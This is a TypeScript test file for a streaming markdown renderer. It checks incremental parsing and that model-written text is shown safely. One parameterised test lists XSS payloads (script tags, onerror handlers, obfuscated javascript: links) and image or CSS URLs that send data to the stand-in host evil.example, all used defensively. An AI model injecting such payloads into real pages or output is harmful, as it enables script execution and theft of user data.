import fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { NO_BLOCKS, nextBlocks } from "./block-splitter.ts";
import type { Blocks } from "./block-splitter.ts";
import { MarkdownBlock } from "./block.tsx";
import { Markdown } from "./markdown.tsx";

const html = (blocks: Blocks): string =>
  renderToStaticMarkup(
    <>
      {[...blocks.settled, ...blocks.tail].map((block, index) => (
        <MarkdownBlock key={index} block={block} />
      ))}
    </>,
  );
const show = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);

const piece = fc.constantFrom(
  "Some words",
  " and *more* of **them**",
  "\n",
  "\n\n",
  "\n\n\n",
  "  ",
  "    ",
  "\t",
  "- item",
  "\n- item",
  "\n  - below",
  "\n\n- [ ] task",
  "\n1. first",
  "\n2) second",
  "# Heading",
  "\n\n## Two\n",
  "\n---\n",
  "\n===\n",
  "```",
  "\n```ts\n",
  "\n```\n",
  "\n\n~~~\n",
  "> quote",
  "\n> ",
  "\n\n    code",
  "| a | b |",
  "\n|---|---|",
  "\n| 1 | 2 |",
  "[ref]",
  "[ref]: https://a.example",
  "\n\n[ref]: https://b.example 'T'\n\n",
  "[x](https://c.example)",
  "`code`",
  "<b>bold</b>",
  "\n\n<div>\n",
  "</div>\n\n",
  "<!-- no",
  "-->",
  "&amp;",
  "\\*",
  "*",
  "_",
  "[",
  "]",
  "!",
  "www.d.example",
  "\r\n",
  "é",
  "👩‍👩‍👧",
  "<script>",
  "</script>",
  "\n\n  text",
  ":",
  "|",
  "\n+ ",
  "\n* ",
);

test("every prefix of a growing text shows what a full parse of it shows", () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 28 }), fc.integer({ min: 1, max: 7 }), (pieces, step) => {
      const text = pieces.join("");
      let blocks = NO_BLOCKS;
      for (let end = step; ; end += step) {
        const prefix = text.slice(0, end);
        blocks = nextBlocks(blocks, prefix);
        expect(html(blocks)).toBe(html(nextBlocks(NO_BLOCKS, prefix)));
        if (end >= text.length) return;
      }
    }),
    { numRuns: 100 },
  );
}, 60_000);

test("a definition that comes late links what was settled before it", () => {
  const start = nextBlocks(NO_BLOCKS, "See [docs].\n\nTwo.\n\nThree.\n\nFour.\n\n");
  expect(start.settled.length).toBeGreaterThan(0);
  const end = nextBlocks(start, "See [docs].\n\nTwo.\n\nThree.\n\nFour.\n\n[docs]: https://a.example");
  expect(html(end)).toContain('href="https://a.example/"');
});

test("the work for one more token does not grow with the length of the answer", () => {
  const paragraph =
    "A paragraph with `code`, a [link](https://a.example) and **strong** words in it.\n\n- one\n- two\n\n```ts\nlet x = 1;\n```\n\n";
  const workOfNextTokens = (paragraphs: number): number => {
    let text = "";
    let blocks = NO_BLOCKS;
    for (let index = 0; index < paragraphs; index++) blocks = nextBlocks(blocks, (text += paragraph));
    const before = blocks.lexed;
    for (let index = 0; index < paragraph.length; index += 4) {
      blocks = nextBlocks(blocks, text + paragraph.slice(0, index + 4));
    }
    return blocks.lexed - before;
  };
  expect(workOfNextTokens(400)).toBe(workOfNextTokens(10));
});

test("settled blocks keep their identity, so that they are not rendered again", () => {
  const first = nextBlocks(NO_BLOCKS, "One.\n\nTwo.\n\nThree.\n\nFour");
  const second = nextBlocks(first, "One.\n\nTwo.\n\nThree.\n\nFour and more");
  expect(first.settled.length).toBe(2);
  expect(second.settled).toBe(first.settled);
  expect(second.tail[0]).toBe(first.tail[0]);
});

// Security register rows 12 and 17: nothing a model writes runs, and nothing is fetched before a click.
test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)> text",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<div style='background:url(https://evil.example/?q=1)'>x</div>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://a.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "[x]\n\n[x]: javascript:alert(1)",
  "![x](https://evil.example/?q=secret)",
  "![x][i]\n\n[i]: https://evil.example/?q=secret",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "![x](javascript:alert(1))",
  '![x](https://evil.example/"onerror="alert(1))',
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  "- [ ] <input autofocus onfocus=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "# <math><mtext><img src=x onerror=alert(1)></math>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
])("shows %j without running or fetching anything", (payload) => {
  const page = show(payload);
  expect(page).not.toMatch(/<(script|img|svg(?! class="icon")|iframe|style|math|object|embed|form|link|meta|base)\b/iu);
  for (const [tag] of page.matchAll(/<[a-z][^>]*>/giu)) {
    expect(tag).not.toMatch(/\son\w+=|\ssrc=|\sstyle=|\ssrcdoc=/iu);
  }
  for (const [, href] of page.matchAll(/\shref="([^"]*)"/gu)) expect(href).toMatch(/^(https?:|mailto:)/u);
});

test("links leave safely", () => {
  expect(show("[x](https://a.example/?a=1&b=2)")).toContain(
    '<a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  );
});

test("a remote image is a link to it, and nothing is loaded", () => {
  const shown = show("![A cat](https://a.example/cat.png)");
  expect(shown).toContain("Open the image from a.example");
  expect(shown).not.toContain("<img");
});

test("tables have headers, lists keep their numbers, tasks show their state", () => {
  expect(show("| a |\n|--:|\n| 1 |")).toContain('<th dir="auto" data-align="right" scope="col">a</th>');
  expect(show("3. three")).toContain('<ol start="3">');
  const tasks = show("- [x] done\n- [ ] open");
  expect(tasks.match(/type="checkbox"/gu)).toHaveLength(2);
  expect(tasks).toContain('aria-label="Done"');
});
